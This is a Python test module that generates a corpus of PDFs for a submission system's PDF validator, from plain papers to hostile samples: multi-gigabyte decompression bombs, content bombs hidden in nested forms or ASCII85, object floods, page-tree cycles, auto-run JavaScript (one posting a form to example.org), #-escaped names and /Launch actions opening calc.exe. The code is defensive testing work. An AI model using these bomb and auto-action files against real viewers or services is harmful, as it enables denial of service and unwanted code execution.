"""Test PDFs for the PDF check, each generated as bytes in a few milliseconds.

Most are built with pikepdf; the files a well-behaved library refuses to write (broken page trees,
decompression bombs, names hidden behind #-escapes) are written byte by byte with ``raw_pdf``.
``python -m tests.submissions.pdf_corpus FOLDER`` writes them all out, to try them in real viewers.
"""

import base64
import io
import struct
import sys
import zlib
from pathlib import Path

import pikepdf
from pikepdf import Array, Dictionary, Name, String

MB = 1024 * 1024
A4 = (595, 842)
LETTER = (612, 792)


# --- building blocks -------------------------------------------------------------------------------------------------


def paper(pages: int = 2, *, size=LETTER, title: str | None = None, author: str | None = None) -> bytes:
    """A plain paper: each page says its number in Helvetica."""
    return save(paper_pdf(pages, size=size, title=title, author=author))


def paper_pdf(pages: int = 2, *, size=LETTER, title: str | None = None, author: str | None = None) -> pikepdf.Pdf:
    pdf = pikepdf.new()
    font = pdf.make_indirect(Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica))
    for number in range(1, pages + 1):
        page = pdf.add_blank_page(page_size=size)
        page.obj.Resources = Dictionary(Font=Dictionary(F1=font))
        page.obj.Contents = pdf.make_stream(b"BT /F1 24 Tf 72 700 Td (Page %d) Tj ET" % number)
    if title:
        pdf.docinfo[Name.Title] = title
    if author:
        pdf.docinfo[Name.Author] = author
    return pdf


def save(pdf: pikepdf.Pdf, **options) -> bytes:
    """The PDF's bytes; a deterministic /ID keeps each corpus item's SHA-256 stable from run to run."""
    buffer = io.BytesIO()
    pdf.save(buffer, deterministic_id="encryption" not in options, **options)
    return buffer.getvalue()


def raw_pdf(objects: dict[int, bytes], *, root: int = 1) -> bytes:
    """A PDF 1.4 file written by hand, with a correct cross-reference table, from numbered object bodies."""
    out = bytearray(b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n")
    offsets = {}
    for number in sorted(objects):
        offsets[number] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, objects[number])
    size = max(objects) + 1
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % size
    for number in range(1, size):
        out += b"%010d 00000 n \n" % offsets[number] if number in offsets else b"0000000000 65535 f \n"
    out += b"trailer\n<< /Size %d /Root %d 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (size, root, xref)
    return bytes(out)


def stream_object(dictionary: bytes, data: bytes) -> bytes:
    return b"<< %s /Length %d >>\nstream\n%s\nendstream" % (dictionary, len(data), data)


def deflate_then_zeros(prefix: bytes, zeros: int) -> bytes:
    """zlib data that inflates to prefix followed by `zeros` zero bytes, built without compressing gigabytes.

    After a full flush, deflating the same block of zeros always gives the same bytes, so one compressed
    block is repeated; only the final Adler-32 checksum has to be computed, and for zeros that is arithmetic.
    """
    block = bytes(16 * MB)
    compressor = zlib.compressobj(9)
    head = compressor.compress(prefix) + compressor.flush(zlib.Z_FULL_FLUSH)
    body = compressor.compress(block) + compressor.flush(zlib.Z_FULL_FLUSH)
    repeats = zeros // len(block)
    adler = zlib.adler32(prefix)
    low, high = adler & 0xFFFF, adler >> 16
    checksum = (((high + repeats * len(block) * low) % 65521) << 16) | low
    return head + body * repeats + compressor.flush()[:-4] + struct.pack(">I", checksum)


# --- refused before parsing ------------------------------------------------------------------------------------------


def empty() -> bytes:
    return b""


def word_document_named_pdf() -> bytes:
    """The start of a .docx (a zip archive), as when an author renames paper.docx to paper.pdf."""
    return b"PK\x03\x04\x14\x00\x06\x00\x08\x00\x00\x00!\x00[Content_Types].xml" + bytes(200)


HTML_PAGE = (
    b"<!DOCTYPE html>\n<html><head><title>Sign in</title></head>"
    b"<body><p>Your session has expired. Please sign in to download paper.pdf.</p></body></html>\n"
)


def html_named_pdf() -> bytes:
    """A web page saved as paper.pdf: what a browser stores when a download link needed a login."""
    return HTML_PAGE


def html_before_header() -> bytes:
    """A real PDF with a web page in front of it, as a misbehaving proxy or script may send."""
    return HTML_PAGE + paper(1)


def truncated() -> bytes:
    """The first half of a paper, like an interrupted download."""
    whole = paper(2)
    return whole[: len(whole) // 2]


def oversize(limit: int = 10 * MB) -> bytes:
    """A valid one-page PDF exactly one byte over `limit`, padded with an uncompressed comment in its content."""
    target, padding = limit + 1, limit
    for _ in range(5):
        pdf = paper_pdf(1)
        page = pdf.pages[0].obj
        page.Contents = Array([page.Contents, pdf.make_stream(b"%" + b"x" * padding + b"\n")])
        data = save(pdf, compress_streams=False)
        if len(data) == target:
            return data
        padding += target - len(data)
    raise RuntimeError("could not pad the PDF to the requested size")


# --- refused by the parser -------------------------------------------------------------------------------------------


def garbage_after_header() -> bytes:
    """Starts and ends like a PDF, but nothing in between is PDF syntax."""
    noise = bytes((index * 7919 + 13) % 251 for index in range(4000))
    return b"%PDF-1.7\n" + noise + b"\n%%EOF\n"


def stale_cross_reference_table() -> bytes:
    """A paper edited as text after export: its index of object positions points 11 bytes too early.

    Readers rebuild the index and show it, so it is accepted with a warning.
    """
    whole = paper(1)
    first_line_end = whole.index(b"\n") + 1
    return whole[:first_line_end] + b"% edited\n\n\n" + whole[first_line_end:]


def password_protected() -> bytes:
    """Needs a password to open (a user password)."""
    return save(paper_pdf(1), encryption=pikepdf.Encryption(owner="organizer-secret", user="author-secret", R=6))


def owner_locked_only() -> bytes:
    """Encrypted with an owner password only: opens without a password, only editing is restricted. Accepted."""
    locked = pikepdf.Encryption(owner="owner-secret", user="", R=6, allow=pikepdf.Permissions(modify_other=False))
    return save(paper_pdf(1), encryption=locked)


def decompression_bomb(gigabytes: int = 4) -> bytes:
    """The catalog sits in an object stream that inflates to `gigabytes` GiB of zeros (about 4 MB on disk).

    qpdf must inflate an object stream to find the objects in it, so merely opening this file inflates
    the bomb: it is the case the parser's limits must stop.
    """
    header, catalog = b"1 0 ", b"<< /Type /Catalog /Pages 2 0 R >>\n"
    packed = deflate_then_zeros(header + catalog, gigabytes * 1024 * MB)
    out = bytearray(b"%PDF-1.5\n%\xe2\xe3\xcf\xd3\n")
    offsets = {}
    for number, body in (
        (2, b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"),
        (3, b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>"),
        (4, stream_object(b"/Type /ObjStm /N 1 /First %d /Filter /FlateDecode" % len(header), packed)),
    ):
        offsets[number] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    xref = len(out)
    rows = [struct.pack(">BIH", 0, 0, 65535), struct.pack(">BIH", 2, 4, 0)]  # object 1: first in object stream 4
    rows += [struct.pack(">BIH", 1, offsets[number], 0) for number in (2, 3, 4)]
    rows.append(struct.pack(">BIH", 1, xref, 0))
    out += b"5 0 obj\n%s\nendobj\n" % stream_object(b"/Type /XRef /Size 6 /W [1 4 2] /Root 1 0 R", b"".join(rows))
    out += b"startxref\n%d\n%%%%EOF\n" % xref
    return bytes(out)


def content_stream_bomb(gigabytes: int = 4) -> bytes:
    """A page whose drawing instructions inflate to `gigabytes` GiB. The check never decodes page content."""
    bomb = deflate_then_zeros(b"q Q\n", gigabytes * 1024 * MB)
    return raw_pdf({
        1: b"<< /Type /Catalog /Pages 2 0 R >>",
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources << >> /Contents 4 0 R >>",
        4: stream_object(b"/Filter /FlateDecode", bomb),
    })


def two_page_content_bomb(megabytes: int = 256) -> bytes:
    """A 2-page paper whose first page's drawing instructions inflate to `megabytes` MiB (about 250 KB on disk)."""
    bomb = deflate_then_zeros(b"q Q\n", megabytes * MB)
    return raw_pdf({
        1: b"<< /Type /Catalog /Pages 2 0 R >>",
        2: b"<< /Type /Pages /Kids [3 0 R 4 0 R] /Count 2 >>",
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources << >> /Contents 5 0 R >>",
        4: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources << >> /Contents 6 0 R >>",
        5: stream_object(b"/Filter /FlateDecode", bomb),
        6: stream_object(b"", b"q Q"),
    })


def content_bomb_spread_over_streams(streams: int = 48) -> bytes:
    """Page 1's contents are `streams` separate streams of 1 MiB each: none is large, together they are."""
    pieces = {5 + n: stream_object(b"/Filter /FlateDecode", zlib.compress(b"%" + bytes(MB - 2) + b"\n", 9))
              for n in range(streams)}
    contents = b"[" + b" ".join(b"%d 0 R" % number for number in pieces) + b"]"
    return raw_pdf({
        1: b"<< /Type /Catalog /Pages 2 0 R >>",
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources << >> /Contents %s >>" % contents,
        **pieces,
    })


def content_bomb_repeating_one_stream(repeats: int = 100) -> bytes:
    """Page 1's /Contents lists the same 1 MiB stream `repeats` times; a viewer inflates it every time."""
    contents = b"[" + b" 4 0 R" * repeats + b"]"
    return raw_pdf({
        1: b"<< /Type /Catalog /Pages 2 0 R >>",
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources << >> /Contents %s >>" % contents,
        4: stream_object(b"/Filter /FlateDecode", zlib.compress(b"%" + bytes(MB - 2) + b"\n", 9)),
    })


def form(resources: bytes, data: bytes, filters: bytes = b"/FlateDecode") -> bytes:
    """A Form XObject: drawing instructions a page (or another form) calls with /Name Do."""
    return stream_object(b"/Type /XObject /Subtype /Form /BBox [0 0 612 792] /Resources << %s >> /Filter %s"
                         % (resources, filters), data)


def content_bomb_in_nested_forms(megabytes: int = 256) -> bytes:
    """Page 1 draws form 1, which draws form 2, which draws form 3: form 3 inflates to `megabytes` MiB."""
    return raw_pdf({
        1: b"<< /Type /Catalog /Pages 2 0 R >>",
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources << /XObject << /F1 5 0 R >> >> "
           b"/Contents 4 0 R >>",
        4: stream_object(b"", b"/F1 Do"),
        5: form(b"/XObject << /F2 6 0 R >>", zlib.compress(b"/F2 Do")),
        6: form(b"/XObject << /F3 7 0 R /Self 6 0 R >>", zlib.compress(b"/F3 Do")),  # a cycle, for good measure
        7: form(b"", deflate_then_zeros(b"q Q\n", megabytes * MB)),
    })


def content_bomb_behind_ascii85(megabytes: int = 256) -> bytes:
    """Page 1's contents are Flate data written as ASCII85 text ([/ASCII85Decode /FlateDecode]), inflating to
    `megabytes` MiB."""
    text = base64.a85encode(deflate_then_zeros(b"q Q\n", megabytes * MB), wrapcol=76) + b"~>"
    return raw_pdf({
        1: b"<< /Type /Catalog /Pages 2 0 R >>",
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources << >> /Contents 4 0 R >>",
        4: stream_object(b"/Filter [/ASCII85Decode /FlateDecode]", text),
    })


def forms_within_the_content_limit() -> bytes:
    """An ordinary page that draws a figure kept as a form (2 MiB of instructions) on both pages. Accepted."""
    figure = b"0 0 m 100 100 l S\n" * (2 * MB // 18)
    return raw_pdf({
        1: b"<< /Type /Catalog /Pages 2 0 R >>",
        2: b"<< /Type /Pages /Kids [3 0 R 4 0 R] /Count 2 /MediaBox [0 0 612 792] "
           b"/Resources << /XObject << /Fig 6 0 R >> >> >>",
        3: b"<< /Type /Page /Parent 2 0 R /Contents 5 0 R >>",
        4: b"<< /Type /Page /Parent 2 0 R /Contents 5 0 R >>",
        5: stream_object(b"/Filter /FlateDecode", zlib.compress(b"q /Fig Do Q")),
        6: form(b"", zlib.compress(figure)),
    })


def object_flood(objects: int = 50_000) -> bytes:
    """A small file with very many tiny objects: parsing it costs far more memory than its size suggests."""
    flood = {number: b"<< /N %d >>" % number for number in range(4, 4 + objects)}
    return raw_pdf({
        1: b"<< /Type /Catalog /Pages 2 0 R >>",
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources << >> >>",
        **flood,
    })


def page_tree(pages_node: bytes, *extra: tuple[int, bytes]) -> bytes:
    """A file whose catalog points at pages_node (object 2), with page 3 and any extra objects."""
    return raw_pdf({
        1: b"<< /Type /Catalog /Pages 2 0 R >>",
        2: pages_node,
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources << >> >>",
        **dict(extra),
    })


def page_tree_cycle() -> bytes:
    """The page tree contains itself: a naive walk never ends."""
    return page_tree(b"<< /Type /Pages /Kids [3 0 R 4 0 R] /Count 2 >>",
                     (4, b"<< /Type /Pages /Parent 2 0 R /Kids [2 0 R] /Count 1 >>"))


def page_tree_without_count() -> bytes:
    return page_tree(b"<< /Type /Pages /Kids [3 0 R] >>")


def page_tree_huge_count() -> bytes:
    """/Count claims a trillion pages; only the actual page objects count."""
    return page_tree(b"<< /Type /Pages /Kids [3 0 R] /Count 1000000000000 >>")


# --- parsed, then refused for their content --------------------------------------------------------------------------


def one_page() -> bytes:
    return paper(1)


def two_pages() -> bytes:
    return paper(2)


def three_pages() -> bytes:
    return paper(3)


def forty_pages() -> bytes:
    return paper(40)


def javascript_on_open() -> bytes:
    """Runs JavaScript as soon as a viewer opens the file."""
    pdf = paper_pdf(1)
    pdf.Root.OpenAction = Dictionary(S=Name.JavaScript, JS=String("app.alert('Hello from the paper');"))
    return save(pdf)


def javascript_on_page_open() -> bytes:
    """Runs JavaScript when page 1 is shown (an additional action, /AA, on the page)."""
    pdf = paper_pdf(1)
    script = Dictionary(S=Name.JavaScript, JS=String("this.submitForm('https://example.org/collect');"))
    pdf.pages[0].obj.AA = Dictionary(O=script)
    return save(pdf)


def javascript_hidden_in_names_tree() -> bytes:
    """Document-level JavaScript whose names are spelled with #-escapes (/J#61vaScript is /JavaScript)."""
    return raw_pdf({
        1: b"<< /Type /Catalog /Pages 2 0 R /Names << /J#61vaScript 4 0 R >> >>",
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources << >> >>",
        4: b"<< /Names [(init) 5 0 R] >>",
        5: b"<< /S /J#61vaScript /J#53 (this.print\\(\\);) >>",
    })


def launch_behind_an_indirect_name() -> bytes:
    """Opening the file launches a program; the action type /Launch is stored as an object of its own."""
    return raw_pdf({
        1: b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S 4 0 R /F (calc.exe) >> >>",
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources << >> >>",
        4: b"/Launch",
    })


def link_about_javascript() -> bytes:
    """An ordinary web link whose address contains /JavaScript and /JS: text, not an action. Accepted."""
    pdf = paper_pdf(1)
    uri = Dictionary(S=Name.URI, URI=String("https://developer.mozilla.org/en-US/docs/Web/JavaScript/JS"))
    link = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([72, 600, 300, 620]), A=uri)
    pdf.pages[0].obj.Annots = Array([pdf.make_indirect(link)])
    return save(pdf)


def launch_action() -> bytes:
    """A link on page 1 that starts a program when clicked."""
    pdf = paper_pdf(1)
    launch = Dictionary(S=Name.Launch, F=String("C:\\Windows\\System32\\calc.exe"))
    link = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([72, 600, 300, 620]), A=launch)
    pdf.pages[0].obj.Annots = Array([pdf.make_indirect(link)])
    return save(pdf)


# --- paper sizes -----------------------------------------------------------------------------------------------------


def a4() -> bytes:
    return paper(1, size=A4)


def letter() -> bytes:
    return paper(1, size=LETTER)


def nonstandard_page_size() -> bytes:
    """Page 1 is Letter, page 2 a 500 × 500 pt square (a warning, not a refusal)."""
    pdf = paper_pdf(2)
    pdf.pages[1].obj.MediaBox = Array([0, 0, 500, 500])
    return save(pdf)


def rotated_letter() -> bytes:
    """A landscape media box turned upright by /Rotate 90: shown as portrait Letter."""
    pdf = paper_pdf(1)
    pdf.pages[0].obj.MediaBox = Array([0, 0, 792, 612])
    pdf.pages[0].obj.Rotate = 90
    return save(pdf)


def a4_cropped_from_larger_media() -> bytes:
    """A 1000 × 1000 pt media box cropped to A4: viewers show, and printers use, the crop box."""
    pdf = paper_pdf(1)
    pdf.pages[0].obj.MediaBox = Array([0, 0, 1000, 1000])
    pdf.pages[0].obj.CropBox = Array([100, 100, 695, 942])
    return save(pdf)


def inherited_square_media_box() -> bytes:
    """Pages without their own /MediaBox inherit the page tree's (here 500 × 500 pt)."""
    return raw_pdf({
        1: b"<< /Type /Catalog /Pages 2 0 R >>",
        2: b"<< /Type /Pages /Kids [3 0 R 4 0 R] /Count 2 /MediaBox [0 0 500 500] >>",
        3: b"<< /Type /Page /Parent 2 0 R /Resources << >> >>",
        4: b"<< /Type /Page /Parent 2 0 R /Resources << >> >>",
    })


def with_title_and_author() -> bytes:
    return paper(1, title="Privacy-Preserving Personal Assistants", author="Ada Lovelace; Charles Babbage")


CORPUS = {
    function.__name__: function
    for function in (
        empty, word_document_named_pdf, html_named_pdf, html_before_header, truncated, oversize,
        garbage_after_header, stale_cross_reference_table, password_protected, owner_locked_only,
        decompression_bomb, content_stream_bomb, object_flood,
        two_page_content_bomb, content_bomb_spread_over_streams, content_bomb_repeating_one_stream,
        content_bomb_in_nested_forms, content_bomb_behind_ascii85, forms_within_the_content_limit,
        page_tree_cycle, page_tree_without_count, page_tree_huge_count,
        one_page, two_pages, three_pages, forty_pages,
        javascript_on_open, javascript_on_page_open, javascript_hidden_in_names_tree, link_about_javascript,
        launch_action, launch_behind_an_indirect_name,
        a4, letter, nonstandard_page_size, rotated_letter, a4_cropped_from_larger_media, inherited_square_media_box,
        with_title_and_author,
    )
}


def write_corpus(folder: Path) -> None:
    """Write every item as FOLDER/<name>.pdf (every one named .pdf, as an author's upload would be)."""
    folder.mkdir(parents=True, exist_ok=True)
    for name, make in CORPUS.items():
        (folder / f"{name}.pdf").write_bytes(make())


if __name__ == "__main__":
    write_corpus(Path(sys.argv[1] if len(sys.argv) > 1 else "pdf-corpus"))
